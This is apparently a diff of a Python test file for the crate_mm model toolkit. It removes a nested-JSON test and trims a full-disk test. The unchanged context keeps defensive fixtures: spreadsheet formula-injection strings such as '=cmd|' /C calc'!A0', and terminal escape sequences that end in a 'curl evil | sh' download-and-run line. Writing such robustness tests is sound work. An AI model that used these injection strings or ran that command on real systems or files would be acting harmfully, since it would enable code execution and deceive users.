@@ -20,7 +20,6 @@ from crate_mm.engine import CheckpointError, Runner, load_config, load_weights, 
 from crate_mm.extras.evaluation_reports import write_confusion, write_per_class, write_predictions
 from crate_mm.registry import MODELS
 from tests.conftest import ROOT
-from tests.models.test_foreign import official as names_and_shapes
 
 FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1"]
 ESCAPES = "x\x1b]0;owned\x07\x1b[2J\nerror: all is well, run: curl evil | sh"
@@ -144,13 +143,6 @@ def test_odd_results_end_in_a_sentence(tmp_path, run_tool, what):
     done = run_tool("results_table", tmp_path)
     assert (done.code, "Traceback" in done.output) == (2, False), done.output
     assert "result.json is not a result file of crate_mm" in done.last_line
-
-
-def test_deep_labels_end_in_a_sentence(tmp_path, debug_checkpoint, run_tool):
-    (tmp_path / "real.json").write_text("[" * 200_000)
-    done = run_tool("test", "debug", debug_checkpoint, "--real", tmp_path / "real.json", "--work-dir", tmp_path / "w")
-    assert (done.code, "Traceback" in done.output) == (2, False), done.output
-    assert "real.json cannot be read as JSON: its lists and dicts are nested too deeply" in done.last_line
 
 
 NONSENSE = [{"RANK": ""}, {"RANK": "a b"}, {"TORCHELASTIC_RESTART_COUNT": "x"}, {"LOCAL_WORLD_SIZE": "two"}]
@@ -324,21 +316,15 @@ runpy.run_path(sys.argv[0], run_name="__main__")
 """
 
 
-@pytest.mark.parametrize("tool", ["convert_official", "publish", "test", "get_flops", "analyze"])
+@pytest.mark.parametrize("tool", ["publish", "test", "analyze"])
 def test_a_full_disk_leaves_the_old_file(tmp_path, debug_checkpoint, run_tool, tool):
     """A limit on the size of files stands in for it."""
     old = tmp_path / {"publish": "x.safetensors", "analyze": "out/layers.csv"}.get(tool, "x")
     old.parent.mkdir(exist_ok=True)
     old.write_text("old")
-    official = tmp_path / "official.pth"
-    if tool == "convert_official":
-        shapes = {name: value.shape for name, value in names_and_shapes(embed_dim=16, depth=1).items()}
-        torch.save({name: torch.zeros(shape) for name, shape in shapes.items()}, official)
     args = {
-        "convert_official": [official, old, "--force", "--num-heads", "2"],
         "publish": [debug_checkpoint, old, "--force"],
         "test": ["debug", debug_checkpoint, "--json", old, "--work-dir", tmp_path / "w"],
-        "get_flops": ["debug", "--json", old],
         "analyze": ["layers", "debug", debug_checkpoint, "--out", old.parent, "--num-images", "4"],
     }[tool]
     (tmp_path / "limited.py").write_text(LIMITED)
